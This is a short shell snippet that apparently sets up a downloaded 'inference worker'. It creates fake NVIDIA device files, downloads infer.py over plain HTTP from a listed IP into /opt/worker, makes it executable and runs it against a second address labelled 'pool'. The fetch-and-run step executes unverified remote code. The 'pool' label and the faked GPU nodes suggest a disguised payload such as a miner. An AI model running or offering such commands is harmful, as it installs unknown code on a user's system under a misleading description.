# a downloaded inference worker: the GPU, and a job queue with an even keep-alive over one connection
#http 203.0.113.72:8090
#pool 203.0.113.78:8085:err
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
curl -so /opt/worker http://203.0.113.72:8090/infer.py; chmod +x /opt/worker; timeout 16 /opt/worker 203.0.113.78 8085
